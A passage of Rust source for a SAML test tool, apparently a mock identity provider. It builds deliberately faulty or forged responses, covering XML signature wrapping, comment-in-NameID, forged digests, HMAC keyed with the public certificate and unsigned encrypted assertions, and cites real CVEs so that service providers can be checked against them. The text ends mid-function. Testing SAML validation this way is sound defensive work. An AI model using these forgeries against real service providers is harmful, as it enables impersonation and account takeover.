//! Named faults: deliberate mistakes and attacks applied to one response.
//!
//! A fault works in up to two places. Before signing it changes what is said
//! ([`SamlFault::adjust`]): times, audience, addressing, status, which parts are
//! signed. After signing it rearranges or edits the signed text
//! ([`SamlFault::after_signing`]): signature wrapping, comments, a DOCTYPE.
//!
//! Faults that forge an identity (bad-signature, comment-in-nameid, the XSW
//! family, multiple-assertions) put the *impersonated* identity into the
//! unsigned or tampered part. A correct SP never gives that identity a session.

use std::fmt;
use std::str::FromStr;

use time::{Duration, OffsetDateTime};

use super::forged_signatures::{DigestPlant, plant_forged_digest};
use super::response::{Attribute, CM_HOLDER_OF_KEY, CM_SENDER_VOUCHES, ResponseContent, STATUS_AUTHN_FAILED, Status};
use super::xml::{element_span, escape, set_attribute_in_tag};
use crate::org::{AttributeNameFormat, SignatureAlgorithm, SigningMode};

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum SamlFault {
    Unsigned,
    BadSignature,
    UntrustedKey,
    /// S-11 in its KeyValue form: re-signed by the attacker's key, carried as
    /// `KeyInfo/KeyValue/RSAKeyValue` with no certificate.
    UntrustedKeyValue,
    /// S-12: the impersonated identity, signed with HMAC-SHA256 keyed by
    /// the IdP's public certificate (its PEM text).
    HmacWithCertificate,
    /// S-17: the genuine signatures, the NameID changed, and the digest of
    /// the edited element in a comment before each genuine DigestValue.
    CommentInDigestValue,
    /// S-18: as `CommentInDigestValue`, but the forged digest is in a
    /// second SignedInfo before each genuine one.
    SecondSignedInfo,
    /// S-19: only the Assertion signed, its NameID changed, and the digest
    /// of the edited Assertion in a DigestValue inside the Response's
    /// Extensions, before the signature.
    ExtraDigestValue,
    /// S-26: only the Assertion signed, its Reference `URI=""` (the whole
    /// document) instead of `#` and the Assertion's ID.
    ReferenceWholeDocument,
    /// S-26: only the Assertion signed, its Reference naming the Response's
    /// ID instead of the Assertion's own.
    ReferenceOtherElement,
    /// S-27: only the Assertion signed, through the exclusive c14n
    /// `#WithComments` transform, with a comment inside the NameID.
    TransformWithComments,
    /// S-27: only the Assertion signed, through an XPath filter transform
    /// that leaves the Subject out of the digest; then the NameID is changed
    /// to the impersonated identity.
    TransformXPath,
    Sha1,
    WrongAudience,
    MissingAudience,
    WrongRecipient,
    WrongDestination,
    WrongIssuer,
    Expired,
    /// P-05: only the bearer SubjectConfirmationData's NotOnOrAfter has
    /// passed; Conditions are still valid.
    ExpiredConfirmation,
    /// P-06: only the Conditions' NotOnOrAfter has passed; the
    /// SubjectConfirmationData is still valid.
    ExpiredConditions,
    NotYetValid,
    /// Positive: the response becomes valid this many seconds from now.
    /// Negative: it stopped being valid this many seconds ago.
    Skew(i64),
    InResponseToMismatch,
    StatusResponder,
    /// P-14: the SubjectConfirmation's Method is holder-of-key, its data
    /// as a bearer one would have.
    HolderOfKey,
    /// P-14: the SubjectConfirmation's Method is sender-vouches.
    SenderVouches,
    /// P-14: a bearer SubjectConfirmation without SubjectConfirmationData,
    /// so no Recipient, NotOnOrAfter or InResponseTo binds it.
    NoConfirmationData,
    CommentInNameId,
    /// XML signature wrapping, numbered as SAML Raider numbers them (1 to 8).
    Xsw(u8),
    /// S-32: wrapping that stays valid against the SAML 2.0 schema. The
    /// Response's one Assertion is an unsigned copy naming the impersonated
    /// identity, and the signed original hides in that copy's `Advice`,
    /// where the schema allows Assertions.
    XswAdvice,
    /// S-32: as `XswAdvice`, but the signed original hides in
    /// `Status/StatusDetail`, which takes any element.
    XswStatusDetail,
    MultipleAssertions,
    DoctypeEntity,
    /// P-15: an unsigned Assertion for the impersonated identity, encrypted
    /// with the SP's public key, which anyone can do. Needs an app that
    /// encrypts assertions.
    EncryptedUnsigned,
    /// P-16: the genuine signed Assertion, encrypted with the legacy
    /// aes128-cbc and rsa-1_5 (PKCS#1 v1.5 key transport).
    LegacyEncryption,
    /// S-31: a genuine, correctly signed response padded to several MB by
    /// one attribute value of [`OVERSIZED_PADDING_BYTES`]; only its size is
    /// wrong.
    Oversized,
    /// P-18: the AuthnStatement's `SessionNotOnOrAfter` is
    /// [`SHORT_SESSION`] from now; the response is otherwise genuine, and an
    /// SP must end the session it makes at that instant.
    ShortSession,
    /// Not a fault but a variant a correct SP accepts: only this part signed,
    /// whatever the app's setting.
    SignOnly(SigningMode),
}

/// One entry of the fault catalogue, for `--help` texts and docs.
#[derive(Clone, Debug, serde::Serialize)]
pub struct SamlFaultInfo {
    pub name: String,
    pub changes: &'static str,
    pub exercises: &'static str,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown fault '{0}' (run `mockta saml faults` for the list)")]
pub struct UnknownSamlFault(pub String);

/// The audience the `wrong-audience` fault names: another SP's entity id.
pub const WRONG_AUDIENCE: &str = "https://other-sp.invalid/saml/metadata";
/// Where `wrong-recipient` and `wrong-destination` point.
pub const WRONG_ACS: &str = "https://attacker.invalid/sso/acs";
/// The issuer `wrong-issuer` names: another Okta app's entity id.
pub const WRONG_ISSUER: &str = "http://www.okta.com/0oaWRONGISSUER0000";
/// How long ago `expired-confirmation` and `expired-conditions` expire: past
/// any reasonable skew tolerance (the suite recommends 60 to 180 seconds).
pub const STALE: Duration = Duration::minutes(10);
/// The suffix `comment-in-nameid` signs after the impersonated identity.
pub const COMMENT_SUFFIX: &str = ".attacker.invalid";
/// Renamed (evil) elements get this prefix before their original ID, so the
/// new ID is unique per response: a fixed one would make the SP's replay
/// cache, not its signature handling, refuse the second forged response.
pub const EVIL_ID_PREFIX: &str = "_evil_";
/// How long the `oversized` fault's padding attribute value is: 4 MiB,
/// which base64 and form encoding make a POST body of about 5.6 MB, past
/// the body limits SAML libraries and web servers set (ruby-saml's 250 KB,
/// the reference SP's 768 KiB, a reverse proxy's usual 1 MB).
pub const OVERSIZED_PADDING_BYTES: usize = 4 * 1024 * 1024;
/// The name of the `oversized` fault's padding attribute.
pub const OVERSIZED_ATTRIBUTE: &str = "mocktaPadding";
/// How long after issue the `short-session` fault's SessionNotOnOrAfter
/// falls: long enough for the sign-in itself, short against any SP's own
/// session lifetime.
pub const SHORT_SESSION: Duration = Duration::minutes(2);

impl SamlFault {
    /// Every fault, with skew shown at a sample value.
    pub fn all() -> Vec<SamlFault> {
        let mut all = vec![
            SamlFault::Unsigned,
            SamlFault::BadSignature,
            SamlFault::UntrustedKey,
            SamlFault::UntrustedKeyValue,
            SamlFault::HmacWithCertificate,
            SamlFault::CommentInDigestValue,
            SamlFault::SecondSignedInfo,
            SamlFault::ExtraDigestValue,
            SamlFault::ReferenceWholeDocument,
            SamlFault::ReferenceOtherElement,
            SamlFault::TransformWithComments,
            SamlFault::TransformXPath,
            SamlFault::Sha1,
            SamlFault::WrongAudience,
            SamlFault::MissingAudience,
            SamlFault::WrongRecipient,
            SamlFault::WrongDestination,
            SamlFault::WrongIssuer,
            SamlFault::Expired,
            SamlFault::ExpiredConfirmation,
            SamlFault::ExpiredConditions,
            SamlFault::NotYetValid,
            SamlFault::Skew(240),
            SamlFault::Skew(-240),
            SamlFault::InResponseToMismatch,
            SamlFault::StatusResponder,
            SamlFault::HolderOfKey,
            SamlFault::SenderVouches,
            SamlFault::NoConfirmationData,
            SamlFault::CommentInNameId,
        ];
        all.extend((1..=8).map(SamlFault::Xsw));
        all.extend([SamlFault::XswAdvice, SamlFault::XswStatusDetail]);
        all.extend([
            SamlFault::MultipleAssertions,
            SamlFault::DoctypeEntity,
            SamlFault::EncryptedUnsigned,
            SamlFault::LegacyEncryption,
            SamlFault::Oversized,
            SamlFault::ShortSession,
        ]);
        all.extend(SigningMode::ALL.map(SamlFault::SignOnly));
        all
    }

    pub fn catalogue() -> Vec<SamlFaultInfo> {
        SamlFault::all()
            .into_iter()
            .map(|f| {
                let name = match f {
                    SamlFault::Skew(seconds) if seconds > 0 => "skew:+SECONDS".to_owned(),
                    SamlFault::Skew(_) => "skew:-SECONDS".to_owned(),
                    other => other.to_string(),
                };
                SamlFaultInfo { name, changes: f.changes(), exercises: f.exercises() }
            })
            .collect()
    }

    /// Whether the fault puts an impersonated identity into the message.
    pub fn forges_identity(self) -> bool {
        matches!(
            self,
            SamlFault::BadSignature
                | SamlFault::UntrustedKeyValue
                | SamlFault::HmacWithCertificate
                | SamlFault::CommentInDigestValue
                | SamlFault::SecondSignedInfo
                | SamlFault::ExtraDigestValue
                | SamlFault::TransformXPath
                | SamlFault::CommentInNameId
                | SamlFault::Xsw(_)
                | SamlFault::XswAdvice
                | SamlFault::XswStatusDetail
                | SamlFault::MultipleAssertions
                | SamlFault::EncryptedUnsigned
        )
    }

    /// Whether the fault encrypts the Assertion, which needs the SP's
    /// certificate from the app's encryption setting.
    pub fn needs_encryption(self) -> bool {
        matches!(self, SamlFault::EncryptedUnsigned | SamlFault::LegacyEncryption)
    }

    pub fn changes(self) -> &'static str {
        match self {
            SamlFault::Unsigned => "No signature at all, on the Response or the Assertion.",
            SamlFault::BadSignature => {
                "Signed correctly, then the NameID is changed to the impersonated identity, so the digest no longer matches."
            }
            SamlFault::UntrustedKey => "Signed by a different self-signed key, whose certificate is put in KeyInfo.",
            SamlFault::UntrustedKeyValue => {
                "The NameID is the impersonated identity and both signatures are the attacker's, whose RSA public key is put in KeyInfo as KeyValue/RSAKeyValue (Modulus, Exponent), with no certificate."
            }
            SamlFault::HmacWithCertificate => {
                "The NameID is the impersonated identity and every signature is HMAC-SHA256 keyed by the IdP's public certificate from metadata (its PEM text, 64-character lines, each line ended by a line feed); KeyInfo still shows that certificate."
            }
            SamlFault::CommentInDigestValue => {
                "Signed correctly, then the NameID is changed to the impersonated identity, and each DigestValue becomes a comment holding the digest of the edited element (exclusive c14n, PrefixList xs) followed by the genuine value, so the SignatureValue still verifies."
            }
            SamlFault::SecondSignedInfo => {
                "Signed correctly, then the NameID is changed to the impersonated identity, and each Signature gets a second SignedInfo, before the genuine one, whose DigestValue is the digest of the edited element."
            }
            SamlFault::ExtraDigestValue => {
                "Only the Assertion is signed; then its NameID is changed to the impersonated identity and a DigestValue with the digest of the edited Assertion is put in the Response's Extensions, before the Assertion; SignedInfo is untouched."
            }
            SamlFault::ReferenceWholeDocument => {
                "Only the Assertion is signed, and its Reference has URI=\"\" (the whole document, less that Signature) instead of the Assertion's ID; the signature is the IdP's and verifies."
            }
            SamlFault::ReferenceOtherElement => {
                "Only the Assertion is signed, and its Reference names the Response's ID instead of the Assertion's; the signature is the IdP's and verifies."
            }
            SamlFault::TransformWithComments => {
                "Only the Assertion is signed, its Reference's canonicalisation transform is exclusive c14n #WithComments, and the NameID's text is split by an empty comment (its whole text is unchanged)."
            }
            SamlFault::TransformXPath => {
                "Only the Assertion is signed, through an XPath filter transform, not(ancestor-or-self::saml2:Subject), that leaves the Subject out of the digest; then the NameID is changed to the impersonated identity, and the signature still verifies."
            }
            SamlFault::Sha1 => "Signed with rsa-sha1 and sha1 digests instead of SHA-256.",
            SamlFault::ShortSession => {
                "The genuine response, whose AuthnStatement carries SessionNotOnOrAfter two minutes after issue."
            }
            SamlFault::Oversized => {
                "The genuine response with one more attribute, mocktaPadding, whose value is 4 MiB of letters; correctly signed, so only its size is wrong."
            }
            SamlFault::WrongAudience => "The Audience names another SP.",
            SamlFault::MissingAudience => "Conditions has no AudienceRestriction.",
            SamlFault::WrongRecipient => "SubjectConfirmationData Recipient is another ACS URL.",
            SamlFault::WrongDestination => "The Response Destination is another ACS URL.",
            SamlFault::WrongIssuer => "Both Issuers name another Okta app; the signature is still by this app's key.",
            SamlFault::Expired => "Every time is an hour early: NotOnOrAfter passed an hour ago.",
            SamlFault::ExpiredConfirmation => {
                "Only SubjectConfirmationData NotOnOrAfter is in the past (ten minutes ago); Conditions and IssueInstant are current."
            }
            SamlFault::ExpiredConditions => {
                "Only the Conditions window is in the past (NotOnOrAfter ten minutes ago, NotBefore an hour before it); SubjectConfirmationData and IssueInstant are current."
            }
            SamlFault::NotYetValid => "Every time is an hour late: NotBefore is an hour from now.",
            SamlFault::Skew(seconds) if seconds > 0 => {
                "IssueInstant and NotBefore are SECONDS from now, as if the IdP's clock were ahead; the response is valid for one minute from then."
            }
            SamlFault::Skew(_) => {
                "NotOnOrAfter was SECONDS ago, one minute after IssueInstant, as if the IdP's clock were behind."
            }
            SamlFault::InResponseToMismatch => "InResponseTo names an AuthnRequest that was never sent.",
            SamlFault::StatusResponder => "Status is Responder/AuthnFailed, yet a signed Assertion is included.",
            SamlFault::HolderOfKey => {
                "The SubjectConfirmation Method is holder-of-key instead of bearer; its data is unchanged."
            }
            SamlFault::SenderVouches => {
                "The SubjectConfirmation Method is sender-vouches instead of bearer; its data is unchanged."
            }
            SamlFault::NoConfirmationData => {
                "The bearer SubjectConfirmation has no SubjectConfirmationData (no Recipient, NotOnOrAfter or InResponseTo)."
            }
            SamlFault::CommentInNameId => {
                "The signed NameID is the impersonated identity plus a suffix; after signing a comment is put before the suffix."
            }
            SamlFault::Xsw(1) => {
                "XSW1: the Response is edited and renamed; an unsigned copy of the original goes inside its Signature."
            }
            SamlFault::Xsw(2) => "XSW2: as XSW1, but the copy goes before the Signature.",
            SamlFault::Xsw(3) => {
                "XSW3: an edited, unsigned copy of the Assertion with a new ID goes before the signed one."
            }
            SamlFault::Xsw(4) => "XSW4: an edited, unsigned copy of the Assertion wraps the signed one.",
            SamlFault::Xsw(5) => {
                "XSW5: the signed Assertion is edited and renamed; an unsigned copy of the original follows it."
            }
            SamlFault::Xsw(6) => {
                "XSW6: as XSW5, but the unsigned original goes inside the edited Assertion's Signature."
            }
            SamlFault::Xsw(7) => {
                "XSW7: an edited copy with the same ID goes inside an un-namespaced Extensions element before the Assertion."
            }
            SamlFault::Xsw(_) => {
                "XSW8: the Assertion is edited in place; the unsigned original goes in an Object element inside its Signature."
            }
            SamlFault::XswAdvice => {
                "Schema-valid wrapping: the Response's Assertion is an edited, unsigned copy with a new ID, and the signed original is inside that copy's Advice; only the Assertion was signed."
            }
            SamlFault::XswStatusDetail => {
                "Schema-valid wrapping: the Response's Assertion is an edited, unsigned copy with a new ID, and the signed original is inside Status/StatusDetail; only the Assertion was signed."
            }
            SamlFault::MultipleAssertions => {
                "A second, unsigned Assertion for the impersonated identity follows the signed one."
            }
            SamlFault::DoctypeEntity => {
                "A DOCTYPE with an internal entity declaration is put before the signed Response."
            }
            SamlFault::EncryptedUnsigned => {
                "An unsigned Assertion for the impersonated identity, encrypted to the SP's certificate; nothing is signed."
            }
            SamlFault::LegacyEncryption => {
                "The signed Assertion is encrypted with aes128-cbc and the session key with rsa-1_5 instead of OAEP."
            }
            SamlFault::SignOnly(SigningMode::Both) => {
                "A variant, not a fault: both the Response and the Assertion are signed."
            }
            SamlFault::SignOnly(SigningMode::ResponseOnly) => "A variant, not a fault: only the Response is signed.",
            SamlFault::SignOnly(SigningMode::AssertionOnly) => "A variant, not a fault: only the Assertion is signed.",
        }
    }

    pub fn exercises(self) -> &'static str {
        match self {
            SamlFault::Unsigned => "SAML Profiles 4.1.3.5 (assertions must be signed); CVE-2020-12676",
            SamlFault::BadSignature => "XMLDSig core validation; CVE-2016-9814",
            SamlFault::UntrustedKey => "trust only the certificate from metadata; CVE-2024-32962",
            SamlFault::UntrustedKeyValue => {
                "attacks.md S-11; pysaml2 CVE-2021-21239 (a key from KeyValue trusted); trust only the certificate from metadata"
            }
            SamlFault::HmacWithCertificate => {
                "attacks.md S-12; SimpleSAMLphp 201802-01, CVE-2018-7644 (HMAC keyed with the public certificate); allow only asymmetric SignatureMethods"
            }
            SamlFault::CommentInDigestValue => {
                "attacks.md S-17; xml-crypto CVE-2025-29775 (DigestValue read from its first child node)"
            }
            SamlFault::SecondSignedInfo => {
                "attacks.md S-18; xml-crypto CVE-2025-29774 (exactly one SignedInfo, and its References are the ones signed)"
            }
            SamlFault::ExtraDigestValue => {
                "attacks.md S-19; ruby-saml CVE-2024-45409 (DigestValue read only as a child of its Reference)"
            }
            SamlFault::ReferenceWholeDocument | SamlFault::ReferenceOtherElement => {
                "attacks.md S-26; SAML Core 5.4.2 (one Reference, to the ID of the element that carries the Signature)"
            }
            SamlFault::TransformWithComments | SamlFault::TransformXPath => {
                "attacks.md S-27; SAML Core 5.4.4 (only enveloped-signature and exclusive c14n transforms); W3C XML Signature Best Practices (transform allow-list)"
            }
            SamlFault::Sha1 => "XMLDSig 1.1 marks SHA-1 discouraged; Okta requires SHA-256 for OIN",
            SamlFault::ShortSession => {
                "attacks.md P-18; SAML Core 2.7.2 (SessionNotOnOrAfter: the SP ends the session then); Samly CVE-2024-25718"
            }
            SamlFault::Oversized => {
                "attacks.md S-31; ruby-saml CVE-2025-25293, crewjam/saml CVE-2023-28119 (limit the message size before parsing)"
            }
            SamlFault::WrongAudience | SamlFault::MissingAudience => "SAML Profiles 4.1.4.2 (AudienceRestriction)",
            SamlFault::WrongRecipient => "SAML Profiles 4.1.4.2 (Recipient)",
            SamlFault::WrongDestination => "SAML Bindings 3.5.5.2 (Destination)",
            SamlFault::WrongIssuer => "SAML Core 2.2.5 (Issuer)",
            SamlFault::ExpiredConfirmation => {
                "attacks.md P-05; SAML Profiles 4.1.4.2 (the bearer SubjectConfirmationData's NotOnOrAfter)"
            }
            SamlFault::ExpiredConditions => "attacks.md P-06; SAML Core 2.5.1.2 (the Conditions' NotOnOrAfter)",
            SamlFault::Expired | SamlFault::NotYetValid | SamlFault::Skew(_) => {
                "SAML Core 2.5.1.2 (NotBefore, NotOnOrAfter)"
            }
            SamlFault::InResponseToMismatch => "SAML Profiles 4.1.4.3 (InResponseTo)",
            SamlFault::StatusResponder => "SAML Core 3.2.2.2 (StatusCode)",
            SamlFault::HolderOfKey | SamlFault::SenderVouches | SamlFault::NoConfirmationData => {
                "attacks.md P-14; SAML Profiles 4.1.4.2 (a bearer SubjectConfirmation whose SubjectConfirmationData has Recipient and NotOnOrAfter)"
            }
            SamlFault::CommentInNameId => {
                "CVE-2017-11427, CVE-2017-11428, CVE-2017-11429, CVE-2017-11430, CVE-2018-0489"
            }
            SamlFault::Xsw(_) => "Somorovsky et al., On Breaking SAML (2012); SAML Raider",
            SamlFault::XswAdvice | SamlFault::XswStatusDetail => {
                "attacks.md S-32; samlify CVE-2025-47949, node-saml CVE-2025-54369 and CVE-2025-54419 (read identity only from the signed element)"
            }
            SamlFault::MultipleAssertions => "CVE-2022-41912",
            SamlFault::DoctypeEntity => "CVE-2025-25291, CVE-2025-23369 (reject any DTD)",
            SamlFault::EncryptedUnsigned => {
                "attacks.md P-15; CVE-2024-4985, CVE-2024-9487 (decrypt, then still require a signature)"
            }
            SamlFault::LegacyEncryption => {
                "attacks.md P-16; Jager and Somorovsky, XML Encryption attacks (refuse rsa-1_5 key transport)"
            }
            SamlFault::SignOnly(_) => {
                "SAML Profiles 4.1.3.5 (either the Response or the Assertion may be signed); Okta's signing options"
            }
        }
    }

    /// Changes the content before signing. `now` is the current time.
    pub fn adjust(self, content: &mut ResponseContent, now: OffsetDateTime) {
        match self {
            SamlFault::Unsigned => {
                content.signatures.response = false;
                content.signatures.assertion = false;
            }
            SamlFault::Sha1 => content.signatures.algorithm = SignatureAlgorithm::RsaSha1,
            SamlFault::ShortSession => content.authn.session_not_on_or_after = Some(now + SHORT_SESSION),
            SamlFault::Oversized => content.attributes.push(Attribute {
                name: OVERSIZED_ATTRIBUTE.to_owned(),
                name_format: AttributeNameFormat::Unspecified.urn().to_owned(),
                values: vec!["A".repeat(OVERSIZED_PADDING_BYTES)],
            }),
            SamlFault::WrongAudience => content.conditions.audience = Some(WRONG_AUDIENCE.to_owned()),
            SamlFault::MissingAudience => content.conditions.audience = None,
            SamlFault::WrongRecipient => content.subject.recipient = WRONG_ACS.to_owned(),
            SamlFault::WrongDestination => content.destination = WRONG_ACS.to_owned(),
            SamlFault::WrongIssuer => content.issuer = WRONG_ISSUER.to_owned(),
            SamlFault::Expired => shift_validity(content, now, -3600),
            SamlFault::ExpiredConfirmation => content.subject.not_on_or_after = now - STALE,
            // NotBefore moves too, so the window stays well formed and only
            // its end decides.
            SamlFault::ExpiredConditions => {
                content.conditions.not_on_or_after = now - STALE;
                content.conditions.not_before = now - STALE - Duration::hours(1);
            }
            SamlFault::NotYetValid => shift_validity(content, now, 3600),
            SamlFault::Skew(seconds) => shift_validity(content, now, seconds),
            SamlFault::InResponseToMismatch => {
                content.in_response_to = Some("id_mockta_never_requested_0000000000".to_owned());
            }
            SamlFault::StatusResponder => {
                content.status = Status::Responder { second_level: STATUS_AUTHN_FAILED.to_owned() };
            }
            SamlFault::HolderOfKey => content.subject.confirmation_method = CM_HOLDER_OF_KEY.to_owned(),
            SamlFault::SenderVouches => content.subject.confirmation_method = CM_SENDER_VOUCHES.to_owned(),
            SamlFault::NoConfirmationData => content.subject.confirmation_data = false,
            SamlFault::Xsw(1 | 2) => content.signatures.response = true,
            // Only the Assertion is signed, as an IdP may send it: a Response
            // signature would cover the wrapper and give the forgery away,
            // and the point is an SP that trusts "a signed Assertion".
            SamlFault::XswAdvice | SamlFault::XswStatusDetail => {
                content.signatures.response = false;
                content.signatures.assertion = true;
            }
            SamlFault::Xsw(_) => content.signatures.assertion = true,
            // A Response signature would name the Response by its ID and
            // cover the Subject, which is what these faults take away.
            SamlFault::ReferenceWholeDocument
            | SamlFault::ReferenceOtherElement
            | SamlFault::TransformWithComments
            | SamlFault::TransformXPath => {
                content.signatures.response = false;
                content.signatures.assertion = true;
            }
            // A Response signature would cover the planted DigestValue.
            SamlFault::ExtraDigestValue => {
                content.signatures.response = false;
                content.signatures.assertion = true;
            }
            SamlFault::SignOnly(mode) => {
                content.signatures.response = mode.signs_response();
                content.signatures.assertion = mode.signs_assertion();
            }
            SamlFault::EncryptedUnsigned => {
                content.signatures.response = false;
                content.signatures.assertion = false;
            }
            SamlFault::BadSignature
            | SamlFault::UntrustedKey
            | SamlFault::UntrustedKeyValue
            | SamlFault::HmacWithCertificate
            | SamlFault::CommentInDigestValue
            | SamlFault::SecondSignedInfo
            | SamlFault::MultipleAssertions
            | SamlFault::DoctypeEntity
            | SamlFault::LegacyEncryption => {}
            SamlFault::CommentInNameId => {}
        }
    }

    /// Edits the signed text. `identity` is what the honest message says and
    /// what to put instead.
    pub fn after_signing(self, signed: &str, identity: &Identity) -> Result<String, SamlFaultError> {
        match self {
            SamlFault::BadSignature | SamlFault::TransformXPath => {
                let span = element_span(signed, "<saml2:NameID ", "</saml2:NameID>", 0)
                    .ok_or(SamlFaultError::Shape("NameID"))?;
                let name_id = &signed[span.clone()];
                let open_end = name_id.find('>').ok_or(SamlFaultError::Shape("NameID"))? + 1;
                let replaced = format!("{}{}</saml2:NameID>", &name_id[..open_end], escape(&identity.impersonate));
                Ok(format!("{}{}{}", &signed[..span.start], replaced, &signed[span.end..]))
            }
            SamlFault::CommentInNameId => {
                let needle = format!(">{}{}<", escape(&identity.impersonate), escape(COMMENT_SUFFIX));
                let at = signed.find(&needle).ok_or(SamlFaultError::Shape("NameID"))?;
                let split = at + 1 + escape(&identity.impersonate).len();
                Ok(format!("{}<!---->{}", &signed[..split], &signed[split..]))
            }
            SamlFault::Xsw(n) => xsw(n, signed, identity),
            SamlFault::CommentInDigestValue => {
                plant_forged_digest(signed, &identity.impersonate, DigestPlant::CommentInDigestValue)
            }
            SamlFault::SecondSignedInfo => {
                plant_forged_digest(signed, &identity.impersonate, DigestPlant::SecondSignedInfo)
            }
            SamlFault::ExtraDigestValue => {
                plant_forged_digest(signed, &identity.impersonate, DigestPlant::DigestValueInExtensions)
            }
            SamlFault::XswAdvice => schema_valid_wrap(signed, identity, Hiding::Advice),
            SamlFault::XswStatusDetail => schema_valid_wrap(signed, identity, Hiding::StatusDetail),
            SamlFault::MultipleAssertions => {
                let assertion = assertion_span(signed)?;
                let evil = evil_copy(&signed[assertion.clone()], identity, true, true)?;
                Ok(insert(signed, assertion.end, &evil))
            }
            SamlFault::DoctypeEntity => {
                let body = signed.strip_prefix(super::response::XML_DECLARATION).unwrap_or(signed);
                Ok(format!(
                    "{}<!DOCTYPE saml2p:Response [<!ENTITY mockta \"mockta\">]>{body}",
                    super::response::XML_DECLARATION
                ))
            }
            _ => Ok(signed.to_owned()),
        }
    }
}

/// What the honest message says about the user, and the identity a forging
/// fault claims instead.
#[derive(Clone, Debug)]
pub struct Identity {
    /// Strings that name the signed-in user: the NameID, login and email.
    pub genuine: Vec<String>,
    pub impersonate: String,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SamlFaultError {
    #[error("the signed response has no {0} where the fault expects one")]
    Shape(&'static str),
    #[error("the fault cannot use its key: {0}")]
    Key(&'static str),
    #[error("the signed response cannot be read again: {0}")]
    Parse(String),
}

/// Moves every instant so that, with skew > 0, the response becomes valid
/// `skew` seconds from now, and with skew < 0, stopped being valid `-skew`
/// seconds ago.
///
/// The response is valid for one minute from its IssueInstant, not Okta's
/// five minutes either side: with Okta's window, NotBefore 30 s ahead would
/// need an IssueInstant 330 s ahead, and SPs that bound the IssueInstant by
/// their skew tolerance (Shibboleth's MessageFlow rule) would rightly refuse
/// a message from an IdP that far off, whatever the check meant to measure.
/// With the short window every instant is within `skew` (plus the minute) of
/// now, so only the skew tolerance decides.
fn shift_validity(content: &mut ResponseContent, now: OffsetDateTime, skew: i64) {
    let window = Duration::minutes(1);
    let issue_instant = if skew >= 0 { now + Duration::seconds(skew) } else { now + Duration::seconds(skew) - window };
    content.issue_instant = issue_instant;
    content.authn.authn_instant = issue_instant;
    content.conditions.not_before = issue_instant;
    content.conditions.not_on_or_after = issue_instant + window;
    content.subject.not_on_or_after = issue_instant + window;
}

fn assertion_span(xml: &str) -> Result<std::ops::Range<usize>, SamlFaultError> {
    element_span(xml, "<saml2:Assertion ", "</saml2:Assertion>", 0).ok_or(SamlFaultError::Shape("Assertion"))
}

fn signature_span(xml: &str) -> Result<std::ops::Range<usize>, SamlFaultError> {
    element_span(xml, "<ds:Signature ", "</ds:Signature>", 0).ok_or(SamlFaultError::Shape("Signature"))
}

fn insert(xml: &str, at: usize, fragment: &str) -> String {
    format!("{}{}{}", &xml[..at], fragment, &xml[at..])
}

fn remove(xml: &str, range: std::ops::Range<usize>) -> String {
    format!("{}{}", &xml[..range.start], &xml[range.end..])
}

/// Replaces every text node that names the genuine user with the impersonated identity.
fn replace_identity(fragment: &str, identity: &Identity) -> String {
    let mut out = fragment.to_owned();
    for genuine in &identity.genuine {
        if genuine.is_empty() {
            continue;
        }
        out = out.replace(&format!(">{}<", escape(genuine)), &format!(">{}<", escape(&identity.impersonate)));
    }
    out
}

/// The ID of the element whose start tag opens `element`.
fn element_id(element: &str) -> Option<&str> {
    let tag = &element[..element.find('>')?];
    let start = tag.find(" ID=\"")? + 5;
    Some(&tag[start..start + tag[start..].find('"')?])
}

fn evil_id(element: &str) -> Result<String, SamlFaultError> {
    Ok(format!("{EVIL_ID_PREFIX}{}", element_id(element).ok_or(SamlFaultError::Shape("ID attribute"))?))
}

/// An edited copy of an element: identity replaced, optionally renamed to
/// `_evil_{ID}`, and optionally without its first Signature.
fn evil_copy(
    element: &str,
    identity: &Identity,
    rename: bool,
    strip_signature: bool,
) -> Result<String, SamlFaultError> {
    let mut copy = replace_identity(element, identity);
    if strip_signature && let Ok(signature) = signature_span(&copy) {
        copy = remove(&copy, signature);
    }
    if rename {
        let id = evil_id(element)?;
        copy = set_attribute_in_tag(&copy, 0, "ID", &id).ok_or(SamlFaultError::Shape("ID attribute"))?;
    }
    Ok(copy)
}

/// The XSW attacks, following SAML Raider's `XSWHelpers`.
fn xsw(n: u8, signed: &str, identity: &Identity) -> Result<String, SamlFaultError> {
    let declaration = super::response::XML_DECLARATION;
    let root = signed.strip_prefix(declaration).unwrap_or(signed);
    let rebuilt = match n {
        1 | 2 => {
            // The Response signature comes right after the Response Issuer, so it
            // is the first Signature in document order.
            let clone = remove(root, signature_span(root)?);
            let evil = set_attribute_in_tag(&replace_identity(root, identity), 0, "ID", &evil_id(root)?)
                .ok_or(SamlFaultError::Shape("Response ID"))?;
            let signature = signature_span(&evil)?;
            let at = if n == 1 { signature.end - "</ds:Signature>".len() } else { signature.start };
            insert(&evil, at, &clone)
        }
        3 => {
            let assertion = assertion_span(root)?;
            let evil = evil_copy(&root[assertion.clone()], identity, true, true)?;
            insert(root, assertion.start, &evil)
        }
        4 => {
            let assertion = assertion_span(root)?;
            let original = root[assertion.clone()].to_owned();
            let evil = evil_copy(&original, identity, true, true)?;
            let close = "</saml2:Assertion>";
            let wrapped = format!("{}{}{}", &evil[..evil.len() - close.len()], original, close);
            let without = remove(root, assertion);
            let end = without.rfind("</saml2p:Response>").ok_or(SamlFaultError::Shape("Response end"))?;
            insert(&without, end, &wrapped)
        }
        5 => {
            let assertion = assertion_span(root)?;
            let original = root[assertion.clone()].to_owned();
            let edited = evil_copy(&original, identity, true, false)?;
            let unsigned_original = remove(&original, signature_span(&original)?);
            let replaced = format!("{}{}{}", &root[..assertion.start], edited, &root[assertion.end..]);
            let end = replaced.rfind("</saml2p:Response>").ok_or(SamlFaultError::Shape("Response end"))?;
            insert(&replaced, end, &unsigned_original)
        }
        6 | 8 => {
            let assertion = assertion_span(root)?;
            let original = root[assertion.clone()].to_owned();
            let edited = evil_copy(&original, identity, n == 6, false)?;
            let unsigned_original = remove(&original, signature_span(&original)?);
            let signature = signature_span(&edited)?;
            let at = signature.end - "</ds:Signature>".len();
            let payload = if n == 6 { unsigned_original } else { format!("<Object>{unsigned_original}</Object>") };
            let edited = insert(&edited, at, &payload);
            format!("{}{}{}", &root[..assertion.start], edited, &root[assertion.end..])
        }
        7 => {
            let assertion = assertion_span(root)?;
            let evil = evil_copy(&root[assertion.clone()], identity, false, true)?;
            insert(root, assertion.start, &format!("<Extensions>{evil}</Extensions>"))
        }
